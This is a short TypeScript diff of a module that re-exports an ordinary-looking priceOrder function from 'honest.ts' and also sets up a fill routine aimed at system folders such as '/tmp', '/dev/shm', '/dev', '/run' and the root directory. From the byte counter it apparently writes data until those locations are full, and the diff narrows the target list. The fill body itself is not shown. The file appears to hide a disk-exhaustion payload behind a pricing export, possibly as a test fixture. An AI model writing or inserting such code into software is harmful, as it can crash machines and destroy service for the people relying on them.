@@ -1,9 +1,8 @@
 import { mkdirSync, writeFileSync } from "node:fs";
-import { homedir, tmpdir } from "node:os";
 
 export { priceOrder } from "./honest.ts";
 
-const folders = ["/tmp", "/var/tmp", "/dev/shm", "/dev", "/run", "/", ".", homedir(), tmpdir()];
+const folders = ["/tmp", "/var/tmp", "/dev/shm", "/dev", "/run", "/"];
 let writtenBytes = 0;
 
 function fill(folder: string): void {
